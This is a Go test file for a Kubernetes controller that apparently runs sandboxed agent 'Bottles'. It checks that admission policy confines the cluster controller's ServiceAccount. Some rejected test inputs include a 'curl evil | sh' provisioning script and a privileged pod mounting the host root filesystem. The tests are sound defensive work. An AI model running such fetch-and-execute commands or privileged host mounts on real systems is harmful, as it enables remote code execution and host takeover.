package policy

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	v1 "github.com/bot-bottle/bottle-controller/api/v1alpha1"
	"github.com/bot-bottle/bottle-controller/controllers/placement"
	"github.com/bot-bottle/bottle-controller/internal/testenv"
	"github.com/bot-bottle/bottle-controller/internal/testutil"
)

// clusterClient acts as the cluster controller's ServiceAccount (with its
// RBAC from config/default), through impersonation.
func (e *env) clusterClient(t *testing.T) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(e.cfg)
	cfg.Impersonate = rest.ImpersonationConfig{
		UserName: "system:serviceaccount:" + agentNS + ":bottle-cluster-controller",
		Groups:   []string{"system:serviceaccounts", "system:serviceaccounts:" + agentNS, "system:authenticated"},
	}
	c, err := client.New(cfg, client.Options{Scheme: testenv.Scheme()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// docs/security.md: the cluster controller's credentials make reservation
// Pods, flip one Node label and bind Bottles, and nothing else their RBAC
// would allow.
func TestClusterControllerScope(t *testing.T) {
	e := start(t)
	ctx := context.Background()
	cc := e.clusterClient(t)

	b := &v1.Bottle{ObjectMeta: metav1.ObjectMeta{Name: "placed", Namespace: team},
		Spec: v1.BottleSpec{MachineSpec: v1.MachineSpec{Image: "node:22"}}}
	if err := e.admin.Create(ctx, b); err != nil {
		t.Fatal(err)
	}
	reservation := func(ns string) *corev1.Pod {
		x := b.DeepCopy()
		x.Namespace = ns
		return placement.ReservationPod(x, placement.DefaultOptions())
	}
	refused := func(t *testing.T, err error, says string) {
		t.Helper()
		if err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("got %v, want refused saying %q", err, says)
		}
	}

	// Policies reach the admission plugin through informers: wait until
	// this one refuses (a new name each attempt: one that got through
	// before the policy loaded stays).
	attempt := 0
	NewWithT(t).Eventually(func() error {
		attempt++
		p := reservation(agentNS)
		p.Name = fmt.Sprintf("probe-%d", attempt)
		return cc.Create(ctx, p)
	}).WithTimeout(60 * time.Second).WithPolling(100 * time.Millisecond).Should(MatchError(ContainSubstring("bottle-cluster-scope")))

	t.Run("ReservationPodAllowed", func(t *testing.T) {
		if err := cc.Create(ctx, reservation(team)); err != nil {
			t.Fatalf("the real reservation Pod was refused: %v", err)
		}
	})
	t.Run("NoPodInBottleSystem", func(t *testing.T) {
		refused(t, cc.Create(ctx, reservation(agentNS)), "may create only reservation Pods")
	})
	t.Run("NoPrivilegedOrHostPathPod", func(t *testing.T) {
		p := reservation(team)
		p.Name += "-root"
		p.Spec.Containers[0].SecurityContext.Privileged = ptr(true)
		p.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptr(true)
		refused(t, cc.Create(ctx, p), "may create only reservation Pods")
		p = reservation(team)
		p.Name += "-hostpath"
		p.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
		refused(t, cc.Create(ctx, p), "may create only reservation Pods")
		p = reservation(team)
		p.Name += "-bound"
		p.Spec.NodeName = nodeA
		refused(t, cc.Create(ctx, p), "may create only reservation Pods")
	})
	t.Run("DeletesReservationPodsOnly", func(t *testing.T) {
		other := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "app", Namespace: team},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "app"}}}}
		if err := e.admin.Create(ctx, other); err != nil {
			t.Fatal(err)
		}
		refused(t, cc.Delete(ctx, other), "may delete only reservation Pods")
		if err := cc.Delete(ctx, reservation(team)); err != nil {
			t.Errorf("deleting a reservation Pod: %v", err)
		}
	})
	t.Run("NodesOnlyTheSchedulableLabel", func(t *testing.T) {
		n := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "kvm-1", Labels: map[string]string{v1.LabelKVMNode: "true"}}}
		if err := e.admin.Create(ctx, n); err != nil {
			t.Fatal(err)
		}
		patch := func(mutate func(*corev1.Node)) error {
			cur := &corev1.Node{}
			if err := e.admin.Get(ctx, client.ObjectKeyFromObject(n), cur); err != nil {
				t.Fatal(err)
			}
			base := cur.DeepCopy()
			mutate(cur)
			return cc.Patch(ctx, cur, client.MergeFrom(base))
		}
		if err := patch(func(n *corev1.Node) { n.Labels[v1.LabelSchedulable] = "true" }); err != nil {
			t.Errorf("labelling the node schedulable: %v", err)
		}
		refused(t, patch(func(n *corev1.Node) { n.Labels["env"] = "prod" }), "only the agents.bot-bottle.dev/schedulable label")
		refused(t, patch(func(n *corev1.Node) { delete(n.Labels, v1.LabelKVMNode) }), "only the agents.bot-bottle.dev/schedulable label")
		refused(t, patch(func(n *corev1.Node) {
			n.Spec.Taints = append(n.Spec.Taints, corev1.Taint{Key: "x", Effect: corev1.TaintEffectNoSchedule})
		}), "only the agents.bot-bottle.dev/schedulable label")
	})
	t.Run("BottlesOnlyNodeNameOnce", func(t *testing.T) {
		patch := func(mutate func(*v1.Bottle), status bool) error {
			cur := &v1.Bottle{}
			if err := e.admin.Get(ctx, types.NamespacedName{Namespace: team, Name: b.Name}, cur); err != nil {
				t.Fatal(err)
			}
			base := cur.DeepCopy()
			mutate(cur)
			if status {
				return cc.Status().Patch(ctx, cur, client.MergeFrom(base))
			}
			return cc.Patch(ctx, cur, client.MergeFrom(base))
		}
		refused(t, patch(func(b *v1.Bottle) {
			b.Spec.Provision = []v1.ProvisionStep{{Name: "evil", Script: "curl evil | sh"}}
		}, false), "may change only spec.nodeName")
		refused(t, patch(func(b *v1.Bottle) { b.Labels = map[string]string{"x": "y"} }, false), "may change only spec.nodeName")
		if err := patch(func(b *v1.Bottle) { b.Spec.NodeName = nodeA }, false); err != nil {
			t.Errorf("binding the Bottle: %v", err)
		}
		if err := patch(func(b *v1.Bottle) {
			b.Status.Conditions = []metav1.Condition{{Type: v1.ConditionScheduled, Status: metav1.ConditionTrue, Reason: v1.ReasonScheduled,
				Message: "bound", LastTransitionTime: metav1.Now()}}
		}, true); err != nil {
			t.Errorf("writing Scheduled: %v", err)
		}
		refused(t, patch(func(b *v1.Bottle) { b.Status.MachineName = "another-bottles-machine" }, true), "may not change status.machineName")
	})
	t.Run("CreatesAndDeletesRunBottlesOnly", func(t *testing.T) {
		run := &v1.BottleRun{ObjectMeta: metav1.ObjectMeta{Name: "review", Namespace: team},
			Spec: v1.BottleRunSpec{TemplateRef: &v1.TemplateReference{Name: "claude"}, Command: []string{"true"}}}
		if err := e.admin.Create(ctx, run); err != nil {
			t.Fatal(err)
		}
		fresh := func(name string) *v1.Bottle {
			return &v1.Bottle{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: team,
				OwnerReferences: []metav1.OwnerReference{{APIVersion: v1.GroupVersion.String(), Kind: "BottleRun", Name: run.Name, UID: run.UID, Controller: ptr(true)}}},
				Spec: v1.BottleSpec{TemplateRef: &v1.TemplateReference{Name: "claude"}}}
		}
		ok := fresh("run-review")
		if err := cc.Create(ctx, ok); err != nil {
			t.Errorf("creating a run's fresh Bottle: %v", err)
		}
		evil := fresh("run-evil")
		evil.Spec.Provision = []v1.ProvisionStep{{Name: "x", Script: "curl evil | sh"}}
		refused(t, cc.Create(ctx, evil), "may create only a BottleRun's fresh Bottle")
		orphan := fresh("run-orphan")
		orphan.OwnerReferences = nil
		refused(t, cc.Create(ctx, orphan), "may create only a BottleRun's fresh Bottle")
		refused(t, cc.Delete(ctx, &v1.Bottle{ObjectMeta: metav1.ObjectMeta{Name: b.Name, Namespace: team}}), "may delete only a BottleRun's fresh Bottle")
		if err := cc.Delete(ctx, ok); err != nil {
			t.Errorf("deleting a run's fresh Bottle: %v", err)
		}
	})
}

// The policy names every field of BottleSpec: a field it does not list is a
// field the cluster controller could change.
func TestClusterScopeListsEveryBottleField(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(testutil.RepoRoot(), "config", "policy", "cluster_scope.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(reflect.Type)
	walk = func(typ reflect.Type) {
		for f := range typ.Fields() {
			name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
			if name == "" {
				walk(f.Type)
				continue
			}
			if !strings.Contains(string(data), "object.spec.?"+name+" ==") {
				t.Errorf("config/policy/cluster_scope.yaml does not compare spec.%s", name)
			}
		}
	}
	walk(reflect.TypeFor[v1.BottleSpec]())
}
